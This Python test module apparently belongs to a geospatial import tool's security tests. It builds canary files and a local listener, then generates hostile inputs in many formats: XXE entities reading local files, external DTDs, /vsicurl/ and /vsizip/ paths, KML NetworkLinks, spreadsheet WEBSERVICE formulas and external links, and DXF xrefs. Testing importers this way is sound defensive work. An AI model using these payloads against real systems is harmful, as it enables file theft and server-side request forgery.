"""Files that try to reach beyond themselves, and what shows that one of them did."""

import contextlib
import json
import os
import subprocess
import sys
import zipfile
from pathlib import Path

import ezdxf
import geopandas as gpd
import openpyxl
import shapely

SECRET = "CANARY4711"
SQUARE = shapely.box(552_800, 1_587_000, 552_900, 1_587_100)

_LISTENER = """
import socket, sys
server = socket.create_server(("127.0.0.1", 0))
print(server.getsockname()[1], flush=True)
while True:
    client, _ = server.accept()
    with client, open(sys.argv[1], "ab") as log:
        client.settimeout(1)
        try:
            log.write(client.recv(200).splitlines()[0] + b"\\n")
        except (OSError, IndexError):
            log.write(b"a connection\\n")
        log.flush()
        client.sendall(b"HTTP/1.0 404 Not Found\\r\\nContent-Length: 0\\r\\n\\r\\n")
"""


@contextlib.contextmanager
def listener(log):
    """A server on 127.0.0.1 that writes every call it gets to ``log``; yields its address."""
    log.touch()
    process = subprocess.Popen([sys.executable, "-c", _LISTENER, str(log)],
                               stdout=subprocess.PIPE, text=True)  # fmt: skip
    try:
        yield f"127.0.0.1:{int(process.stdout.readline())}"
    finally:
        process.kill()
        process.wait()
        process.stdout.close()


def canaries(folder):
    """Files outside, in several formats, whose content must never show up anywhere."""
    folder.mkdir()
    (folder / "canary.csv").write_text(f"id,name,lon,lat\n{SECRET},{SECRET},108,14\n")
    (folder / "canary.txt").write_text(SECRET)
    shapes = gpd.GeoDataFrame({"name": [SECRET]}, geometry=[SQUARE], crs=9216)
    shapes.to_file(folder / "canary.gpkg")
    shapes.to_file(folder / "canary.tab", driver="MapInfo File")
    drawing = ezdxf.new()
    drawing.modelspace().add_lwpolyline(list(SQUARE.exterior.coords)[:-1], close=True)
    drawing.modelspace().add_text(SECRET).set_placement((552_850, 1_587_050))
    drawing.saveas(folder / "canary.dxf")
    return folder


def hostile_files(folder, address, outside):
    """Paths by what they try; each calls ``address`` or reads a file of ``outside``."""
    folder.mkdir()
    http, csv = f"http://{address}", outside / "canary.csv"
    found = {}

    def put(name, content):
        place = folder / name
        place.parent.mkdir(exist_ok=True)
        place.write_bytes(content.encode() if isinstance(content, str) else content)
        found[name] = place
        return place

    for name, text in _descriptions(http, csv, outside).items():
        for ending in ("vrt", "gpkg", "geojson", "csv", "shp", "kml", "tif"):
            put(f"{name}/{name}.{ending}", text)
            put(f"{name}/{name}_disguised.{ending}", text.replace(">", "><!-- <kml> -->", 1))
        for ending in ("gpkg", "shp", "kml", "geojson"):
            with zipfile.ZipFile(put(f"{name}/{name}_{ending}.zip", b""), "w") as archive:
                archive.writestr(f"a.{ending}", text.replace(">", "><!-- <kml> -->", 1))
    for name, text in _texts(http, csv, outside).items():
        put(name, text)
    for name in ("entity.kml", "network.kml", "overlay.kml", "entity.gml", "schema.gml"):
        with zipfile.ZipFile(put(f"{name}z", b""), "w") as archive:
            archive.writestr(f"doc.{name[-3:]}", found[name].read_bytes())
    with zipfile.ZipFile(put("table.zip", b""), "w") as archive:
        archive.writestr("view.tab", found["linked.tab"].read_bytes())
    found["external.xlsx"] = _workbook(folder / "external.xlsx", http, csv)
    found["entity.xlsx"] = _workbook(folder / "entity.xlsx", http, csv, entity=True)
    found["xref.dxf"] = _drawing(folder / "xref.dxf", http, outside)
    for number, name in enumerate((
        f"/vsicurl/{http}/a.gpkg", f"/vsizip/{outside}/canary.csv", f"/vsizip//vsicurl/{http}/a.zip",
        f"{http}/a.geojson", f"WFS:{http}/wfs", f"OAPIF:{http}/", f"GeoJSON:{http}/a",
        f"WMS:{http}/wms", f"/vsisubfile/0_1000,{csv}", "/vsistdin/",
    )):  # fmt: skip
        found[f"name {number}"] = Path(name)
    return found


def _descriptions(http, csv, outside):
    """XML that stands for data elsewhere."""
    srcs = {"net": f"/vsicurl/{http}/a.csv", "file": str(csv), "gpkg": str(outside / "canary.gpkg"),
            "zip": f"/vsizip//vsicurl/{http}/a.zip/a.csv"}  # fmt: skip
    texts = {
        f"vrt_{name}": f'<OGRVRTDataSource><OGRVRTLayer name="canary"><SrcDataSource>{place}'
        "</SrcDataSource></OGRVRTLayer></OGRVRTDataSource>"
        for name, place in srcs.items()
    }
    texts["vrt_raster"] = (
        '<VRTDataset rasterXSize="9" rasterYSize="9"><VRTRasterBand dataType="Byte" band="1">'
        f"<SimpleSource><SourceFilename>/vsicurl/{http}/a.tif</SourceFilename><SourceBand>1"
        "</SourceBand></SimpleSource></VRTRasterBand></VRTDataset>"
    )
    texts["wms"] = (
        f'<GDAL_WMS><Service name="TMS"><ServerUrl>{http}/${{z}}</ServerUrl></Service><DataWindow>'
        "<UpperLeftX>0</UpperLeftX><UpperLeftY>9</UpperLeftY><LowerRightX>9</LowerRightX>"
        "<LowerRightY>0</LowerRightY><TileLevel>1</TileLevel></DataWindow>"
        "<Projection>EPSG:4326</Projection><BandsCount>3</BandsCount></GDAL_WMS>"
    )
    texts["wfs"] = f"<OGRWFSDataSource><URL>{http}/wfs</URL></OGRWFSDataSource>"
    texts["oapif"] = f"<OGROAPIFDataSource><URL>{http}/</URL></OGROAPIFDataSource>"
    return texts


def _texts(http, csv, outside):
    ring = "<Polygon><outerBoundaryIs><LinearRing><coordinates>108,14 108.1,14 108.1,14.1 108,14</coordinates></LinearRing></outerBoundaryIs></Polygon>"
    shape = {
        "type": "Feature",
        "properties": {},
        "geometry": json.loads(shapely.to_geojson(SQUARE)),
    }

    def kml(body, top=""):
        return (f'<?xml version="1.0"?>{top}<kml xmlns="http://www.opengis.net/kml/2.2"><Document>'
                f"{body}</Document></kml>")  # fmt: skip

    def gml(body, top="", schema=""):
        return (f'<?xml version="1.0"?>{top}<gml:FeatureCollection xmlns:gml="http://www.opengis.net/gml" {schema}>'
                f"{body}</gml:FeatureCollection>")  # fmt: skip

    entities = (f'<!DOCTYPE kml SYSTEM "{http}/a.dtd" [<!ENTITY f SYSTEM "file://{outside}/canary.txt">'
                f'<!ENTITY n SYSTEM "{http}/entity"><!ENTITY % p SYSTEM "{http}/param">%p;]>')  # fmt: skip
    place = f"<Placemark><name>&f;&n;</name>{ring}</Placemark>"
    member = "<gml:featureMember><a><gml:name>&f;&n;</gml:name></a></gml:featureMember>"
    return {
        "link.geojson": json.dumps({"type": "FeatureCollection", "features": [shape], "crs": {
            "type": "link", "properties": {"href": f"{http}/crs", "type": "proj4"}}}),
        "url.geojson": json.dumps({"type": "FeatureCollection", "features": [shape], "crs": {
            "type": "name", "properties": {"name": f"{http}/crs"}}}),
        "file.geojson": json.dumps({"type": "FeatureCollection", "features": [shape], "crs": {
            "type": "name", "properties": {"name": str(outside / "canary.txt")}}}),
        "pipeline.geojson": json.dumps({"type": "gdal_streamed_alg",
                                        "command_line": f"gdal vector pipeline ! read {csv} ! write a"}),
        "pipeline2.geojson": json.dumps({"type": "Feature", "x": {"type": "gdal_streamed_alg"},
                                         "command_line": f"gdal vector pipeline ! read {csv}"}),
        "paged.geojson": json.dumps({"type": "FeatureCollection", "features": [shape], "links": [
            {"rel": "next", "href": f"{http}/next"}], "exceededTransferLimit": True}),
        "entity.kml": kml(place, entities),
        "network.kml": kml(f"<NetworkLink><Link><href>{http}/a.kml</href></Link></NetworkLink>"
                           f"<NetworkLink><Link><href>{csv}</href></Link></NetworkLink>"
                           f"<Placemark><styleUrl>{http}/s.kml#s</styleUrl>{ring}</Placemark>"),
        "overlay.kml": kml(f"<GroundOverlay><Icon><href>{http}/a.png</href></Icon><LatLonBox><north>1"
                           "</north><south>0</south><east>1</east><west>0</west></LatLonBox>"
                           f"</GroundOverlay><Placemark>{ring}</Placemark>"),
        "entity.gml": gml(member, entities.replace("DOCTYPE kml", "DOCTYPE gml:FeatureCollection")),
        "schema.gml": gml(member.replace("&f;&n;", "a"), schema=
                          'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
                          f'xsi:schemaLocation="http://a {http}/wfs?SERVICE=WFS&amp;REQUEST=DescribeFeatureType"'),
        "entity.gpx": f'<?xml version="1.0"?>{entities}<gpx version="1.1"><wpt lat="14" lon="108"><name>&f;&n;</name></wpt></gpx>',
        "picture.svg": f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="{http}/a.png"/></svg>',
        "linked.tab": f'!table\n!version 300\n!charset Neutral\n\nDefinition Table\n  Type NATIVE Charset "Neutral"\n  File "{outside}/canary.dat"\n  Fields 1\n    name Char (20) ;\n',
        "view.tab": f'!table\n!version 300\n!charset Neutral\n\nOpen Table "{outside}/canary" Hide\nCreate View view As\nSelect name From canary\n',
        "service.csv": f"OAPIF:{http}/\n",
        "service.json": json.dumps({"links": [{"href": f"{http}/conformance", "rel": "conformance"},
                                              {"href": f"{http}/collections", "rel": "data"}]}),
        "tiles.json": json.dumps({"type": "FeatureCollection", "stac_version": "1.0.0", "features": [
            {"type": "Feature", "stac_version": "1.0.0", "assets": {"a": {"href": f"{http}/a.tif"}}}]}),
    }  # fmt: skip


def _workbook(path, http, csv, *, entity=False):
    book = openpyxl.Workbook()
    book.active.append(["X", "Y", "Tên"])
    for x, y in list(SQUARE.exterior.coords)[:-1]:
        book.active.append([y, x, "=[1]Sheet1!A1"])
    book.active["D1"] = f'=WEBSERVICE("{http}/web")'
    book.active["D2"] = "link"
    book.active["D2"].hyperlink = f"{http}/hyper"
    book.save(path)
    with zipfile.ZipFile(path) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    parts["xl/externalLinks/externalLink1.xml"] = (
        b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        b'<externalBook xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
        b' r:id="rId1"/></externalLink>'
    )
    parts["xl/externalLinks/_rels/externalLink1.xml.rels"] = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" TargetMode="External" Target="{http}/a.xlsx" Type="http://schemas.'
        'openxmlformats.org/officeDocument/2006/relationships/externalLinkPath"/></Relationships>'
    ).encode()
    if entity:
        top = f'<!DOCTYPE a [<!ENTITY f SYSTEM "file://{csv}"><!ENTITY n SYSTEM "{http}/x">]>'.encode()
        for name in ("xl/workbook.xml", "xl/worksheets/sheet1.xml"):
            body = parts[name].partition(b"?>")[2] if parts[name].startswith(b"<?") else parts[name]
            parts[name] = top + body
    with zipfile.ZipFile(path, "w") as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return path


def _drawing(path, http, outside):
    drawing = ezdxf.new("R2018")
    space = drawing.modelspace()
    space.add_lwpolyline(list(SQUARE.exterior.coords)[:-1], close=True)
    drawing.add_xref_def(str(outside / "canary.dxf"), "other")
    space.add_blockref("other", (552_850, 1_587_050))
    drawing.add_xref_def(f"{http}/a.dxf", "distant")
    space.add_blockref("distant", (552_850, 1_587_050))
    picture = drawing.add_image_def(f"{http}/a.png", size_in_pixel=(9, 9))
    space.add_image(picture, insert=(552_850, 1_587_050), size_in_units=(9, 9))
    drawing.saveas(path)
    return path


def untouched(folder):
    """The canaries' time of reading set into the past, where the disk keeps it; how to look again."""
    files = sorted(folder.iterdir())
    for file in files:
        os.utime(file, (1_000_000_000, 1_500_000_000))
    return lambda: [file.name for file in files if file.stat().st_atime != 1_000_000_000]
